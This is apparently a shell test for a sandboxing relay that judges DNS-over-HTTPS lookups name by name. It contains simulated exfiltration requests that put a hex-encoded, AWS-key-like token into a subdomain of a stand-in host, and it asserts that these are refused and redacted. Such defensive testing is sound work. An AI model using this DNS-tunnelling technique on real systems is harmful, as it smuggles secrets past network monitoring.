#!/bin/sh
# 411-relay-doh-judged: DNS over HTTPS to an allowed resolver is judged
# name by name (branch egress-gaps4). 386 and 392 refused every DoH
# request, so a legitimate client of an allowed resolver (curl
# --doh-url, a package manager's DoH setting) could not resolve at all;
# now each name a request asks for (RFC 8484 POST application/dns-message
# and GET ?dns=, the JSON API's ?name=&type=) goes through the DNS gate as
# a lookup of it would (rl_doh_judge: policy, exfiltration checks,
# budgets): ordinary allowed names resolve through the loopback resolver
# doh_srv.py, "<hex of a token>.x.allowed.test" is refused and never
# reaches it, a name the policy does not allow is refused, each with a
# redacted event. With the judge unset in relay_scan.c every DoH request
# is refused again (the ordinary names' checks fail), with
# doh_judge_target/doh_judge_body passing everything the hex name reaches
# the resolver.
. "$(dirname "$0")/lib.sh"
. "$top_srcdir/t/tls/lib-tls.sh"
command -v curl >/dev/null || skip "curl not installed"
need_relay
make_ca

start_server doh_srv.py 127.0.0.1 doh
start_server recsrv.py 127.0.0.1 web
# curl takes DoH over HTTPS only: the same resolver behind TLS (key path)
python3 "$top_srcdir/t/e2e/doh_srv.py" 127.0.0.1 "$T/dohs.port" "$doh_LOG" \
	"$T/pki/server.pem" "$T/pki/server.key" &
PIDS="$PIDS $!"
i=0
while [ ! -s "$T/dohs.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
DOH="https://localhost:$(cat "$T/dohs.port")/dns-query"
CURL="curl -s -m 5 --doh-insecure --doh-url $DOH --resolve localhost:$(cat "$T/dohs.port"):127.0.0.1"
HEX=414b49415a3751483358354c5441484a4b4c
J="--no-default-policy --relay --allow 127.0.0.1 --allow *.allowed.test --log $T/events.jsonl -q"
run() {
	: > "$doh_LOG"
	: > "$web_LOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" $J -- "$@" 2>&1)
	sleep 0.3
}

out=$($CURL "http://$HEX.x.allowed.test:$web_PORT/bare" 2>&1)
sleep 0.3
check "bare: curl's DoH query reaches the resolver ($out)" grep -q "$HEX" "$doh_LOG"

# curl --doh-url: POST application/dns-message (A and AAAA)
run $CURL "http://www.allowed.test:$web_PORT/ok"
check "curl --doh-url: an ordinary allowed name resolves and the request arrives ($out)" \
	grep -q 'GET /ok' "$web_LOG"
check "...the resolver was asked for it" grep -q 'www.allowed.test' "$doh_LOG"
check "...an allow event for the DoH name" event_has '"verdict":"allow"' '"op":"resolve"' \
	'www.allowed.test' 'via doh'
run $CURL "http://$HEX.x.allowed.test:$web_PORT/leak"
check "curl --doh-url: the exfiltration name never reaches the resolver ($out)" \
	sh -c "! grep -q '$HEX' '$doh_LOG' && ! grep -q 'leak' '$web_LOG'"
check "...a deny event for it" event_has '"verdict":"deny"' '"op":"resolve"' 'via doh'
check "...the request refused as DNS over HTTPS" event_has '"action":"blocked"' 'dns over https'
check "...the name shown redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
run $CURL "http://www.other.test:$web_PORT/other"
check "curl --doh-url: a name the policy does not allow is refused ($out)" \
	sh -c "! grep -q 'www.other.test' '$doh_LOG'"

# python3: POST application/dns-message, GET ?dns=, JSON ?name=&type=
P="$T/doh.py"
cat > "$P" <<'PY'
import base64, http.client, struct, sys
mode, port, name = sys.argv[1], int(sys.argv[2]), sys.argv[3]
q = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0) + b"".join(
    bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\x01\0\x01"
c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
try:
    if mode == "post":
        c.request("POST", "/dns-query", q, {"Content-Type": "application/dns-message",
                                             "Accept": "application/dns-message"})
    elif mode == "get":
        c.request("GET", "/dns-query?dns=" + base64.urlsafe_b64encode(q).decode().rstrip("="),
                  headers={"Accept": "application/dns-message"})
    else:
        c.request("GET", "/resolve?name=%s&type=A" % name,
                  headers={"Accept": "application/dns-json"})
    r = c.getresponse()
    print(mode, "answered", r.status, len(r.read()))
except OSError as e:
    print(mode, "refused", e)
PY
for m in post get json; do
	run python3 "$P" $m "$doh_PORT" api.allowed.test
	check "python3 $m: an ordinary allowed name is answered ($out)" has "$out" 'answered 200'
	check "...the resolver was asked for it" grep -q 'api.allowed.test' "$doh_LOG"
	run python3 "$P" $m "$doh_PORT" "$HEX.x.allowed.test"
	check "python3 $m: the exfiltration name never reaches the resolver ($out)" \
		sh -c "! grep -q '$HEX' '$doh_LOG'"
	check "...refused ($out)" has "$out" 'refused'
	check "...a deny event, the name redacted" sh -c "grep -q 'dns over https' \
		'$T/events.jsonl' && ! grep -q '$HEX' '$T/events.jsonl'"
done
finish
